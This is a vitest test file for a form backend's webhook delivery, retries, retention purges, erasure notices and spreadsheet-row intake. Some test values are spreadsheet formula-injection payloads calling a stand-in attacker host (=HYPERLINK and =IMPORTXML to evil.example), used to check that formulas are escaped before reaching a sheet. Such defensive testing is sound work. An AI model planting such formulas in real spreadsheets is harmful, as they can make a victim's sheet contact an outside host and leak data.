import { deleteAccount } from '@pahiya/contracts/account/account-contracts';
import { sendSheetRow, submitForm } from '@pahiya/contracts/forms/form-contracts';
import { fixedForms } from '@pahiya/domain/forms/form-definition';
import { err, ok } from '@pahiya/domain/shared/result';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { createTestBrowser, signIn } from '../../../../test/contract-browser.ts';
import { emptyTables } from '../../../../test/empty-tables.ts';
import { createTestApi, type TestApi } from '../../../../test/test-api.ts';
import { createTestDatabase, type TestDatabase } from '../../../db/test-database.ts';
import { TRIES_AT_MOST } from '../../../tasks/retry-delay.ts';
import { testHandlers } from '../../../tasks/test-handlers.ts';
import { createWorkLoop } from '../../../tasks/work-loop.ts';
import { formTasks } from '../form-tasks.ts';
import { purgeForms } from '../purge-forms.ts';
import { seedForms } from '../seed/seed-forms.ts';

const now = new Date('2026-11-21T04:44:00Z');
const hours = (count: number) => new Date(now.getTime() + count * 60 * 60 * 1000);
let database: TestDatabase;
let api: TestApi;

beforeAll(async () => {
  database = await createTestDatabase();
});
beforeEach(async () => {
  await emptyTables(database.sql, [
    'users',
    'documents',
    'form_submissions',
    'deliveries',
    'tasks',
    'rate_limits',
    'otp_challenges',
    'otp_waits',
  ]);
  await seedForms(database.sql, now);
  api = await createTestApi(database.sql);
});
afterAll(async () => {
  await api.close();
  await database.drop();
});

const values = {
  name: 'Asha Rao',
  email: 'asha@example.in',
  topic: 'other',
  message: '=HYPERLINK("https://evil.example")',
};
const send = (over = {}) =>
  createTestBrowser(api).call(submitForm, {
    params: { formId: fixedForms.contact },
    body: { version: 1, values, consents: ['answer'], ...over },
  });
const lead = (over = {}) =>
  createTestBrowser(api).call(sendSheetRow, {
    params: { name: 'leads' },
    body: {
      values: { name: 'Asha', mobile: '9876543210', service: 'loan' },
      consents: ['call'],
      ...over,
    },
  });
const work = () => createWorkLoop(api.services, testHandlers(formTasks)).drain();
const down = () =>
  err({ kind: 'unavailable', provider: 'webhook', retryable: true, reason: 'scripted' } as const);
const rows = (table: string) => database.sql`select * from ${database.sql(table)}`;

describe('a submission', () => {
  test('reaches the webhook complete, with its id, once', async () => {
    const { submissionId } = (await send()).data;
    await work();
    await work();
    expect(api.sinks.arrived).toMatchObject([
      {
        sink: 'webhook',
        sentAt: now.toISOString(),
        payload: {
          type: 'form.submitted',
          submissionId,
          formId: fixedForms.contact,
          version: 1,
          values,
          consents: [{ id: 'answer', isGiven: true }],
        },
      },
    ]);
    expect(await rows('tasks')).toEqual([]);
    expect(await rows('deliveries')).toMatchObject([{ delivered_at: now, body_sealed: null }]);
  });

  test('is neither lost nor duplicated by id when the webhook goes down and recovers', async () => {
    api.sinks.answer = down;
    const sent = new Set<string>();
    for (let place = 0; place < 8; place += 1) {
      const answer = await send({ values: { ...values, message: `No. ${place}` } });
      sent.add(answer.data.submissionId);
      await work();
    }
    expect(api.sinks.arrived).toEqual([]);
    // It recovers, but every second response is lost after the message was accepted.
    let tries = 0;
    api.sinks.answer = (message) => {
      tries += 1;
      if (tries % 2 === 0) return ok(undefined);
      api.sinks.arrived.push({ ...message, sink: 'webhook' });
      return down();
    };
    for (let hour = 1; hour < 30; hour += 1) {
      api.setNow(hours(hour));
      await work();
    }
    const ids = new Map(
      api.sinks.arrived.map(({ id, payload }) => [id, payload.submissionId as string]),
    );
    expect(api.sinks.arrived.length).toBeGreaterThan(8);
    expect([...ids.values()].sort()).toEqual([...sent].sort());
    expect(await rows('tasks')).toEqual([]);
  });

  test('is a failed task for an operator when the webhook never responds, and is kept', async () => {
    api.sinks.answer = down;
    await send();
    for (let hour = 0; hour <= TRIES_AT_MOST; hour += 1) {
      api.setNow(hours(hour * 2));
      await work();
    }
    expect(await rows('tasks')).toMatchObject([
      { kind: 'deliver', attempts: TRIES_AT_MOST, last_error: 'unavailable' },
    ]);
    expect((await rows('tasks'))[0]?.dead_at).not.toBeNull();
    expect(await rows('form_submissions')).toHaveLength(1);
  });

  test('that was erased in the meantime is not sent', async () => {
    await send();
    await database.sql`delete from form_submissions`;
    await work();
    expect(api.sinks.arrived).toEqual([]);
    expect(await rows('tasks')).toEqual([]);
  });

  test('is erased after its retention period, and its receivers are notified', async () => {
    const { submissionId } = (await send()).data;
    await send({ values: { ...values, message: 'not passed on yet' } });
    await database.sql`delete from tasks where subject in (
      select id::text from deliveries where submission_id <> ${submissionId})`;
    await work();
    api.setNow(hours(365 * 24));
    expect(await purgeForms(api.services)).toEqual({ submissions: 2, deliveries: 0 });
    await work();
    expect(api.sinks.arrived.map(({ sink, payload }) => ({ sink, ...payload }))).toMatchObject([
      { type: 'form.submitted', submissionId },
      { sink: 'webhook', type: 'form.erased', submissionId, formId: fixedForms.contact },
    ]);
    api.setNow(hours((365 + 30) * 24));
    expect((await purgeForms(api.services)).deliveries).toBe(1);
    expect(await rows('deliveries')).toEqual([]);
  });

  test('is reported as erased also to a receiver whose response was lost, but not to one that was never called', async () => {
    const { submissionId } = (await send()).data;
    api.sinks.answer = (message) => {
      api.sinks.arrived.push({ ...message, sink: 'webhook' });
      return down();
    };
    await work();
    api.sinks.answer = () => ok(undefined);
    await send({ values: { ...values, message: 'not passed on yet' } });
    api.setNow(hours(365 * 24));
    await purgeForms(api.services);
    await work();
    expect(api.sinks.arrived.map(({ payload }) => payload)).toMatchObject([
      { type: 'form.submitted', submissionId },
      { type: 'form.erased', submissionId },
    ]);
  });

  test('that expires during the purge is deleted with its notice, or kept', async () => {
    await send();
    await work();
    const last = hours(365 * 24).getTime();
    let asked = 0;
    // A clock that passes the moment between two reads.
    const passing = () => new Date(last - 1 + asked++);
    await purgeForms({ ...api.services, now: passing });
    api.setNow(hours(366 * 24));
    await purgeForms(api.services);
    await work();
    expect(api.sinks.arrived.map(({ payload }) => payload.type)).toEqual([
      'form.submitted',
      'form.erased',
    ]);
  });

  test('that is erased during delivery is followed by a second notice', async () => {
    const { submissionId } = (await send()).data;
    const { webhook } = api.sinks.all;
    let isFirst = true;
    const slow = {
      deliver: async (message: Parameters<typeof webhook.deliver>[0]) => {
        if (isFirst) {
          isFirst = false;
          api.setNow(hours(365 * 24));
          await purgeForms(api.services);
          await work();
        }
        return webhook.deliver(message);
      },
    };
    const services = { ...api.services, sinks: { ...api.sinks.all, webhook: slow } };
    await createWorkLoop(services, testHandlers(formTasks)).drain();
    await work();
    expect(api.sinks.arrived.map(({ payload }) => payload)).toMatchObject([
      { type: 'form.erased', submissionId },
      { type: 'form.submitted', submissionId },
      { type: 'form.erased', submissionId },
    ]);
    expect(await rows('tasks')).toEqual([]);
  });

  test('of a deleted account gets the same notices', async () => {
    const browser = createTestBrowser(api);
    await signIn(api, browser, '9812345210');
    const body = { version: 1, values, consents: ['answer'] };
    const sent = await browser.call(submitForm, { params: { formId: fixedForms.contact }, body });
    await work();
    expect((await browser.call(deleteAccount, { body: { confirm: 'DELETE' } })).status).toBe(200);
    await work();
    expect(api.sinks.arrived.at(-1)?.payload).toEqual({
      type: 'form.erased',
      formId: fixedForms.contact,
      submissionId: sent.data.submissionId,
    });
    expect(await rows('form_submissions')).toEqual([]);
  });
});

describe('without an address', () => {
  beforeEach(async () => {
    api = await createTestApi(database.sql, { sinks: {} });
  });

  test('a form is stored and no delivery is enqueued', async () => {
    expect((await send()).status).toBe(201);
    expect([...(await rows('deliveries')), ...(await rows('tasks'))]).toEqual([]);
  });

  test('a spreadsheet is closed, and stores nothing', async () => {
    const answer = await lead();
    expect([answer.status, answer.problem.code]).toEqual([503, 'form/closed']);
    expect(await rows('form_submissions')).toEqual([]);
  });

  test('an address that was removed later is reported to the operator', async () => {
    const other = await createTestApi(database.sql);
    await createTestBrowser(other).call(submitForm, {
      params: { formId: fixedForms.contact },
      body: { version: 1, values, consents: ['answer'] },
    });
    await work();
    expect(await rows('tasks')).toMatchObject([{ last_error: 'not-configured' }]);
    await other.close();
  });
});

describe('a spreadsheet', () => {
  test('accepts a row by the rules of its form, with or without a version', async () => {
    expect((await lead()).status).toBe(201);
    expect((await lead({ version: 1 })).status).toBe(201);
    expect((await lead({ version: 7 })).problem.code).toBe('form/changed');
    expect((await lead({ consents: [] })).problem.errors).toMatchObject([
      { path: 'body.consents.call' },
    ]);
    await work();
    expect(api.sinks.arrived.map(({ sink }) => sink)).toEqual(['sheet-leads', 'sheet-leads']);
  });

  test('receives no formulas', async () => {
    const remark = '=IMPORTXML("https://evil.example/","//a")';
    const answer = await createTestBrowser(api).call(sendSheetRow, {
      params: { name: 'feedback' },
      body: { values: { rating: '5', remark, page: '/' } },
    });
    expect(answer.status).toBe(201);
    await work();
    expect(api.sinks.arrived[0]?.payload.values).toMatchObject({ remark: `'${remark}` });
  });

  test('of another name does not exist', async () => {
    const answer = await createTestBrowser(api).call(sendSheetRow, {
      params: { name: 'salaries' },
      body: { values: {} },
    });
    expect(answer.problem.code).toBe('request/bad-input');
  });

  test('is closed to other sites', async () => {
    const answer = await createTestBrowser(api).call(sendSheetRow, {
      params: { name: 'leads' },
      body: { values: {} },
      headers: { 'sec-fetch-site': 'cross-site' },
    });
    expect(answer.problem.code).toBe('request/cross-site');
  });
});
